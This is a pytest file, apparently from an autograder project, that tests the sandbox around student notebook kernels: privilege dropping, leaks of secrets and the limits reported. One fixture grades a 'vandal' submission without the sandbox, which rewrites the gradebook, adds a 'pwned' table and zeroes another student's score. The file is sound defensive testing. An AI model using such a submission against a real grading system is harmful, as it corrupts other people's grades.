# 9. Environment and user


def test_the_graders_environment_does_not_leak(batch):
    probe = batch.probe()
    env = probe["env"]
    assert SECRET_VARIABLE not in env
    assert not [k for k, v in env.items() if batch.values["SECRET"] in v]
    assert probe["secret in /proc"] == []
    assert env["HOME"] == "/tmp" and env["PWD"] == "/submission"


def test_the_kernel_runs_as_an_unprivileged_user(batch):
    probe = batch.probe()
    uid, euid, gid, egid, groups = probe["ids"]
    assert uid == euid and gid == egid
    if batch.mode == "rootless":  # the instructor's own user, in a user namespace of the kernel's own
        assert (uid, gid) == (batch.grader.user.pw_uid, batch.grader.user.pw_gid) and uid != 0
        assert set(groups) <= {gid, OVERFLOW_ID}  # groups the namespace does not map show as nobody's
    else:  # a user of its own, leased for this kernel only
        assert uid >= FIRST_UID and gid >= FIRST_UID
        assert groups == []
    inheritable, permitted, effective, _bounding, ambient = probe["capabilities"]
    assert inheritable == permitted == effective == ambient == "0000000000000000"
    # rootless, root is no user at all in the kernel's namespace: EINVAL rather than EPERM
    assert probe["setuid"] == ("OSError" if batch.mode == "rootless" else "PermissionError")


def test_a_rootless_kernel_may_not_use_the_keyring_or_memory_that_no_process_maps(batch):
    tried = {call: batch.probe()[call] for call in ("keyctl", "memfd", "sysv shm")}
    if batch.mode == "rootless":  # the instructor's keys go by its user id; no cgroup counts such memory
        assert tried == dict.fromkeys(tried, "Operation not permitted")
    else:  # as root: a user id of its own, and a cgroup that counts all of its memory
        assert tried == dict.fromkeys(tried, "allowed")


def test_the_first_line_says_how_kernels_run_and_which_limits_hold(batch):
    first = batch.stderr.splitlines()[0]
    memory = f"memory ({Limits().memory_bytes >> 20} MiB)"
    if batch.mode == "rootless":
        assert "rootless" in first and "a new interpreter per submission" in first
        assert ("a cgroup of yours caps each sandbox's " + memory in first
                or "no cgroup here: memory is limited per process and watched for each sandbox as a whole" in first)
    else:
        assert "root: each kernel its own user" in first
        assert ("forked from a warm sandbox" if batch.mode == "warm" else "a new interpreter per submission") in first
        assert "a cgroup caps each sandbox's " + memory in first or "no cgroup here" in first


# --------------------------------------------------------------------------- why the sandbox is needed


@pytest.fixture(scope="module")
def unsandboxed(pristine, tmp_path_factory) -> Path:
    course = copy_course(pristine, tmp_path_factory, "nosandbox")
    submit(course, "a_honest", hand_in_notebook(course))
    submit(course, "b_vandal", hand_in_notebook(course, {"double": fill(VANDAL, COURSE=str(course)) + DOUBLE}))
    # the honest student is recorded by a run of its own, before the vandal runs
    for student in ("a_honest", "b_vandal"):
        result = run_autograder(course, "grade", ASSIGNMENT, "--no-sandbox", "--student", student,
                                "--timeout", str(CELL_TIMEOUT), "--total-timeout", str(TOTAL_TIMEOUT))
        assert result.returncode == 0, result.stderr[-3000:]
    return course


def test_without_the_sandbox_a_submission_rewrites_the_gradebook(unsandboxed):
    (line,) = printed(graded_notebook(unsandboxed, "b_vandal"), "VANDAL")
    assert json.loads(line)[f"{unsandboxed}/gradebook.db"] == "rewritten"
    with sqlite3.connect(unsandboxed / "gradebook.db") as db:
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert "pwned" in tables
    # the honest student, graded before, lost every point: a person's score of 0 wins over the tests'
    assert autoscore(unsandboxed, "a_honest") == 0
